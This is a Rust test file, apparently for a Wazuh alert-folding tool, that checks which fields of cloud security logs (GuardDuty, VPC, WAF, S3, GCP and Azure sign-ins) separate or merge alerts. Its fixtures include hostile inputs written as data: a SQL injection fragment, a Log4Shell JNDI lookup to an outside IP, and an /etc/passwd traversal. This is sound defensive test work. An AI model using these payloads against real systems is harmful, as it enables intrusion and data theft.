//! Findings and logs of clouds that record no calls, and how somebody signed in.

use serde_json::{Value, json};
use wazuh_model::Outcome;

use super::clouds::called;
use super::{assert_differ, assert_fold, decoded, folds, of};

#[test]
fn what_a_finding_of_amazon_is_about_is_news() {
    let finding = called(
        "aws",
        json!({"source": "guardduty", "type": "Exfiltration:S3/AnomalousBehavior", "id": "x", "arn": "x", "severity": "x", "accountId": "x", "region": "x", "updatedAt": "x",
            "resource": {"s3BucketDetails": [{"name": "x"}], "eksClusterDetails": {"name": "x"}, "kubernetesDetails": {"kubernetesUserDetails": {"username": "x"}},
                "accessKeyDetails": {"userName": "bob", "accessKeyId": "x", "principalId": "x"},
                "ecsClusterDetails": {"name": "x", "taskDetails": {"arn": "x", "startedAt": "x", "definitionArn": "x"}}},
            "service": {"count": "1", "eventLastSeen": "x", "action": {"awsApiCallAction": {"api": "x", "remoteIpDetails": {"ipAddressV4": "203.0.113.9", "geoLocation": {"lat": "1"}}}}}}),
    );
    let of_finding = |path: &str| format!("/data/aws/{path}");
    for (path, one, other) in [
        ("resource/s3BucketDetails/0/name", "public", "payroll"),
        ("resource/eksClusterDetails/name", "dev", "prod"),
        (
            "resource/kubernetesDetails/kubernetesUserDetails/username",
            "bob",
            "eve",
        ),
        (
            "resource/accessKeyDetails/accessKeyId",
            "AKIAIOSFODNN7EXAMPLE",
            "AKIAI44QH8DHBEXAMPLE",
        ),
        (
            "resource/ecsClusterDetails/taskDetails/definitionArn",
            "arn:aws:ecs:e:1:task-definition/shop:1",
            "arn:aws:ecs:e:1:task-definition/miner:1",
        ),
        ("accountId", "111122223333", "444455556666"),
        ("region", "eu-west-1", "us-east-1"),
        ("severity", "2", "8"),
        ("service/action/awsApiCallAction/api", "ListUsers", "CreateUser"),
    ] {
        assert_differ(&finding, &of_finding(path), one, other);
    }
    for (path, one, other) in [
        (
            "id",
            "16afba5c5c43e07c9e3e5e2e544e95df",
            "26afba5c5c43e07c9e3e5e2e544e95de",
        ),
        (
            "arn",
            "arn:aws:guardduty:e:1:detector/x/finding/1",
            "arn:aws:guardduty:e:1:detector/x/finding/2",
        ),
        ("updatedAt", "2026-11-29T04:00:01.123Z", "2026-11-29T05:11:02.456Z"),
        ("service/eventLastSeen", "2026-11-29T04:00:01Z", "2026-11-29T05:11:02Z"),
        ("service/count", "1", "17"),
        (
            "resource/ecsClusterDetails/taskDetails/arn",
            "arn:aws:ecs:e:1:task/c/16afba5c5c43e07c9e3e5e2e544e95df",
            "arn:aws:ecs:e:1:task/c/26afba5c5c43e07c9e3e5e2e544e95de",
        ),
        (
            "resource/ecsClusterDetails/taskDetails/startedAt",
            "1796000001",
            "1796000999",
        ),
        (
            "service/action/awsApiCallAction/remoteIpDetails/geoLocation/lat",
            "1",
            "2",
        ),
        (
            "resource/accessKeyDetails/accessKeyId",
            "ASIAIOSFODNN7EXAMPLE",
            "ASIAI44QH8DHBEXAMPLE",
        ),
        (
            "resource/accessKeyDetails/principalId",
            "AROAX:i-0a1b2c3d4e5f60718",
            "AROAX:i-0fedcba9876543210",
        ),
    ] {
        assert_fold(&finding, &of_finding(path), one, other);
    }
}

#[test]
fn what_became_of_a_request_is_news_in_every_log_of_amazon() {
    let of_log = |name: &str| format!("/data/aws/{name}");
    let network = called(
        "aws",
        json!({"source": "vpc", "action": "x", "srcaddr": "203.0.113.9", "dstaddr": "10.0.0.1", "dstport": "22", "srcport": "x", "packets": "x", "bytes": "x", "start": "x",
            "log_info": {"log_file": "x"}}),
    );
    assert_differ(&network, &of_log("action"), "REJECT", "ACCEPT");
    for name in ["srcport", "packets", "bytes", "start"] {
        assert_fold(&network, &of_log(name), "41017", "51234");
    }
    assert_fold(&network, &of_log("log_info/log_file"), "a.gz", "b.gz");
    let firewall = called(
        "aws",
        json!({"source": "waf", "action": "x", "terminatingRuleId": "x", "ja3Fingerprint": "x", "ja4Fingerprint": "x", "httpRequest": {"clientIp": "203.0.113.9", "httpMethod": "x", "requestId": "x", "args": "x"}}),
    );
    assert_differ(&firewall, &of_log("action"), "BLOCK", "ALLOW");
    assert_differ(&firewall, &of_log("terminatingRuleId"), "sqli", "rce");
    for name in ["ja3Fingerprint", "ja4Fingerprint"] {
        assert_fold(
            &firewall,
            &of_log(name),
            "e7d705a3286e19ea42f587b344ee6865",
            "6734f37431670b3ab4292b8f60f29984",
        );
    }
    assert_differ(&firewall, &of_log("httpRequest/httpMethod"), "GET", "POST");
    assert_fold(
        &firewall,
        &of_log("httpRequest/requestId"),
        "q8Zt1xKpM2wR",
        "Zz3kLm9QxW1r",
    );
    assert_fold(&firewall, &of_log("httpRequest/args"), "id=17", "id=18");
    let matched = called(
        "aws",
        json!({"source": "waf", "action": "BLOCK", "httpRequest": {"clientIp": "203.0.113.9"}, "terminatingRuleMatchDetails": [{"conditionType": "SQL_INJECTION", "matchedData": ["10", "AND", "x"]}]}),
    );
    let details = |name: &str| of_log(&format!("terminatingRuleMatchDetails/0/{name}"));
    assert_fold(&matched, &details("matchedData/2"), "1=1", "2=2");
    assert_differ(&matched, &details("conditionType"), "SQL_INJECTION", "XSS");
    assert_differ(
        &matched,
        &details("matchedData/2"),
        "1=1",
        "union select password from users",
    );
    assert_differ(
        &matched,
        &details("matchedData/0"),
        "10",
        "${jndi:ldap://203.0.113.9/a}",
    );
    let audited = called(
        "aws",
        json!({"source": "cloudwatchlogs", "kind": "Event", "auditID": "x", "verb": "create", "sourceIPs": ["203.0.113.9"], "objectRef": {"resource": "pods", "name": "x", "resourceVersion": "1"}}),
    );
    assert_fold(
        &audited,
        &of_log("auditID"),
        "5770385f-c22a-43e0-bfac-06f5698ffbd9",
        "11111111-c22a-43e0-bfac-06f5698ffbd9",
    );
    assert_fold(&audited, &of_log("objectRef/resourceVersion"), "4711", "4712");
    assert_differ(&audited, &of_log("objectRef/resource"), "pods", "secrets");
    let names = called(
        "aws",
        json!({"source": "cisco_umbrella", "action": "x", "most_granular_identity": "x", "domain": "evil.example"}),
    );
    assert_differ(&names, &of_log("action"), "Blocked", "Allowed");
    assert_differ(&names, &of_log("most_granular_identity"), "WS1", "DC1");
}

#[test]
fn what_was_asked_of_a_bucket_is_news_and_a_version_is_not() {
    let of_log = |name: &str| format!("/data/aws/{name}");
    let bucket = called(
        "aws",
        json!({"source": "server_access", "bucket": "x", "operation": "x", "requester": "x", "http_status": "x", "remote_ip": "203.0.113.9", "bytes_sent": "x", "request_id": "x"}),
    );
    for (name, one, other) in [
        ("operation", "REST.GET.OBJECT", "REST.DELETE.OBJECT"),
        ("bucket", "public", "payroll"),
        ("requester", "arn:aws:iam::1:user/bob", "arn:aws:iam::1:user/eve"),
        ("http_status", "403", "200"),
    ] {
        assert_differ(&bucket, &of_log(name), one, other);
    }
    assert_fold(&bucket, &of_log("bytes_sent"), "840", "1200");
    assert_fold(
        &bucket,
        &of_log("requester"),
        "arn:aws:sts::1:assumed-role/node/i-0a1b2c3d4e5f60718",
        "arn:aws:sts::1:assumed-role/node/i-0fedcba9876543210",
    );
    let version = called(
        "aws",
        json!({"source": "server_access", "operation": "REST.GET.OBJECT", "key": "k", "remote_ip": "203.0.113.9", "version_id": "x"}),
    );
    assert_fold(
        &version,
        &of_log("version_id"),
        "3HL4kqtJlcpXroDTDmJrmSpXd3dIbrHY",
        "nQw8Kt1xKpM2wR7yLbT4vN5cQ8mPj3uH",
    );
    let read = called(
        "aws",
        json!({"source": "server_access", "operation": "REST.GET.OBJECT", "key": "k", "remote_ip": "203.0.113.9", "request_uri": "x"}),
    );
    let uri = |key: &str, version: &str| format!("GET /bucket/{key}?versionId={version} HTTP/1.1");
    let versions = ["3HL4kqtJlcpXroDTDmJrmSpXd3dIbrHY", "nQw8Kt1xKpM2wR7yLbT4vN5cQ8mPj3uH"];
    assert_fold(
        &read,
        &of_log("request_uri"),
        &uri("k", versions[0]),
        &uri("k", versions[1]),
    );
    assert_differ(
        &read,
        &of_log("request_uri"),
        &uri("k", versions[0]),
        &uri("payroll", versions[0]),
    );
    assert_differ(
        &read,
        &of_log("request_uri"),
        &uri("k", "1'+UNION+SELECT+password+FROM+users"),
        &uri("k", "..%2f..%2fetc%2fpasswd"),
    );
    // Elsewhere the name of a parameter is whatever somebody calls it.
    let asked = decoded("json", json!({"url": "x"}));
    assert_differ(
        &asked,
        "/data/url",
        "/api?versionId=1'+UNION+SELECT+password+FROM+users",
        "/api?versionId=..%2f..%2fetc%2fpasswd",
    );
}

#[test]
fn whoever_calls_a_cloud_without_a_name_of_his_own_is_told_by_what_he_has() {
    let call = |identity: Value| {
        called(
            "aws",
            json!({"eventName": "AssumeRole", "sourceIPAddress": "203.0.113.9", "userIdentity": identity}),
        )
    };
    let center = |id: &str| call(json!({"type": "IdentityCenterUser", "accountId": "1", "onBehalfOf": {"userId": id}}));
    let other = |account: &str, id: &str| call(json!({"type": "AWSAccount", "accountId": account, "principalId": id}));
    let ids = [
        "1b2c3d4e-beef-4a1b-9c3d-0a1b2c3d4e5f",
        "2b2c3d4e-beef-4a1b-9c3d-0a1b2c3d4e5f",
    ];
    assert!(!folds(&center(ids[0]), &center(ids[1])));
    assert!(!folds(
        &other("999999999999", "AROA1:bob"),
        &other("888888888888", "AROA1:bob")
    ));
    assert!(!folds(&other("1", "AROA1:bob"), &other("1", "AROA2:bob")));
    let (bob, eve) = (other("1", "AROA1:bob"), other("1", "AROA1:eve"));
    assert_eq!(of(&bob).key, of(&eve).key, "many sessions are bounded in one window");
    assert!(!folds(&bob, &eve));
    assert!(folds(
        &other("1", "AROA1:i-0a1b2c3d4e5f60718"),
        &other("1", "AROA1:i-0fedcba9876543210")
    ));
    let google = called(
        "gcp",
        json!({"resource": {"labels": {"project_id": "x", "job_id": "x"}},
            "protoPayload": {"methodName": "m", "serviceName": "x", "authenticationInfo": {"principalEmail": "b@corp.example", "serviceAccountKeyName": "x"}}}),
    );
    let payload = "/data/gcp/protoPayload";
    assert_differ(&google, "/data/gcp/resource/labels/project_id", "dev", "prod");
    assert_fold(
        &google,
        "/data/gcp/resource/labels/job_id",
        "2026-11-29_17",
        "2026-11-30_18",
    );
    assert_differ(
        &google,
        &format!("{payload}/authenticationInfo/serviceAccountKeyName"),
        "a",
        "b",
    );
    assert_differ(&google, &format!("{payload}/serviceName"), "iam", "compute");
}

#[test]
fn how_somebody_signed_in_is_news() {
    for (cloud, place) in [("azure", "properties/"), ("ms-graph", "")] {
        let properties = json!({"userPrincipalName": "bob@corp.example", "appDisplayName": "x", "resourceDisplayName": "x", "riskLevelDuringSignIn": "x", "authenticationRequirement": "x",
            "conditionalAccessStatus": "x", "clientAppUsed": "x", "deviceDetail": {"displayName": "x", "browser": "x"}, "uniqueTokenIdentifier": "x"});
        let signed_in = if place.is_empty() {
            let mut call = properties.clone();
            call["eventType"] = json!("signIn");
            called(cloud, call)
        } else {
            called(
                cloud,
                json!({"operationName": "Sign-in activity", "resultType": "0", "properties": properties}),
            )
        };
        for (name, one, other) in [
            ("appDisplayName", "Outlook", "Azure PowerShell"),
            ("resourceDisplayName", "Office", "Windows Azure Service Management API"),
            ("riskLevelDuringSignIn", "none", "high"),
            (
                "authenticationRequirement",
                "multiFactorAuthentication",
                "singleFactorAuthentication",
            ),
            ("conditionalAccessStatus", "success", "notApplied"),
            ("clientAppUsed", "Browser", "IMAP4"),
            ("deviceDetail/displayName", "WS1", "KALI"),
        ] {
            assert_differ(&signed_in, &format!("/data/{cloud}/{place}{name}"), one, other);
        }
        for name in ["uniqueTokenIdentifier", "deviceDetail/browser"] {
            assert_fold(
                &signed_in,
                &format!("/data/{cloud}/{place}{name}"),
                "Edge 119.0.1",
                "Edge 120.0.2",
            );
        }
    }
    let found = called(
        "ms-graph",
        json!({"title": "Suspicious PowerShell", "severity": "x", "id": "x", "userPrincipalName": "bob@corp.example",
            "evidence": [{"deviceDnsName": "x", "mdeDeviceId": "x", "remediationStatus": "x", "createdDateTime": "x", "processId": 1}, {"userAccount": {"accountName": "x"}}]}),
    );
    for (path, one, other) in [
        ("evidence/0/deviceDnsName", "ws1.corp.example", "dc1.corp.example"),
        ("evidence/0/mdeDeviceId", "a", "b"),
        ("evidence/0/remediationStatus", "remediated", "active"),
        ("evidence/1/userAccount/accountName", "svc", "adm"),
        ("severity", "low", "high"),
    ] {
        assert_differ(&found, &format!("/data/ms-graph/{path}"), one, other);
    }
    assert_fold(&found, "/data/ms-graph/id", "da1", "da2");
    let time = "/data/ms-graph/evidence/0/createdDateTime";
    assert_fold(&found, time, "2026-11-29T04:00:01.123Z", "2026-11-29T05:11:02.456Z");
}

#[test]
fn a_finding_of_a_machine_that_names_nobody_folds_until_it_says_something_new() {
    let found = called(
        "ms-graph",
        json!({"title": "Suspicious PowerShell", "severity": "x", "id": "x", "providerAlertId": "x", "evidence": [{"deviceDnsName": "ws1.corp.example", "createdDateTime": "x"}]}),
    );
    assert_fold(&found, "/data/ms-graph/id", "da1796000001_1", "da1796000999_1");
    assert_fold(&found, "/data/ms-graph/providerAlertId", "da1796000001", "da1796000999");
    assert_differ(&found, "/data/ms-graph/severity", "low", "high");
    assert_differ(
        &found,
        "/data/ms-graph/evidence/0/deviceDnsName",
        "ws1.corp.example",
        "dc1.corp.example",
    );
    let denied = called(
        "gcp",
        json!({"insertId": "x", "logName": "projects/p/logs/firewall", "jsonPayload": {"disposition": "x", "bytes_sent": "x",
            "connection": {"src_ip": "203.0.113.9", "src_port": "x", "dest_ip": "10.0.0.1", "dest_port": "x"}}}),
    );
    let payload = "/data/gcp/jsonPayload";
    assert_differ(&denied, &format!("{payload}/disposition"), "DENIED", "ALLOWED");
    assert_differ(&denied, &format!("{payload}/connection/dest_port"), "22", "3389");
    assert_fold(&denied, &format!("{payload}/connection/src_port"), "40001", "51234");
    assert_fold(&denied, &format!("{payload}/bytes_sent"), "840", "1200");
    assert_fold(&denied, "/data/gcp/insertId", "q8zt1xkp4m2wr", "7k2m9q4xb1vt6");
}

#[test]
fn how_a_balancer_of_google_answered_is_news() {
    let asked = called(
        "gcp",
        json!({"insertId": "x", "logName": "projects/p/logs/requests", "resource": {"type": "http_load_balancer"},
            "httpRequest": {"requestMethod": "GET", "requestUrl": "https://a.example/admin", "status": "403", "remoteIp": "203.0.113.9", "latency": "x", "responseSize": "x"}}),
    );
    let request = |name: &str| format!("/data/gcp/httpRequest/{name}");
    assert_differ(&asked, &request("status"), "403", "200");
    assert_differ(&asked, &request("requestMethod"), "GET", "POST");
    assert_fold(&asked, &request("status"), "403", "404");
    assert_fold(&asked, &request("latency"), "0.017s", "0.118s");
    assert_fold(&asked, &request("responseSize"), "840", "1200");
    assert_fold(&asked, "/data/gcp/insertId", "q8zt1xkp4m2wr", "7k2m9q4xb1vt6");
    assert_eq!(of(&asked).outcome, Some(Outcome::Failure));
    let given = super::pair(&asked, &request("status"), [json!(200), json!("500")]).map(|alert| of(&alert).outcome);
    assert_eq!(given, [Some(Outcome::Success), Some(Outcome::Failure)]);
}
